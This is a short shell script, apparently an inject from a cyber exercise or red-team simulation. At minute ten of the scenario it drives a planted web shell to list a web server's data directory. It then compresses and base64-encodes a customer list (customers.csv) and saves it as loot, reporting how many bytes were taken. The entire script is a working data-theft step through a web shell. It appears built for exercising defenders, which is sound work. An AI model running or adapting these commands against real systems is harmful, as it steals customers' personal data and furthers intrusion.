#!/bin/sh
# The second wave (an inject at minute 10): look for data and carry the customer list out
# through the web shell. Says what happened; exits 0 either way (the inject has run).
/opt/attack/shell.sh 'ls -la /srv/www/data' >/dev/null 2>&1
if /opt/attack/shell.sh 'gzip -c /srv/www/data/customers.csv|base64 -w0' > /root/loot.b64 2>/dev/null \
   && [ -s /root/loot.b64 ]; then
  echo "exfiltration: $(wc -c < /root/loot.b64) bytes taken"
else
  echo "exfiltration: refused"
fi
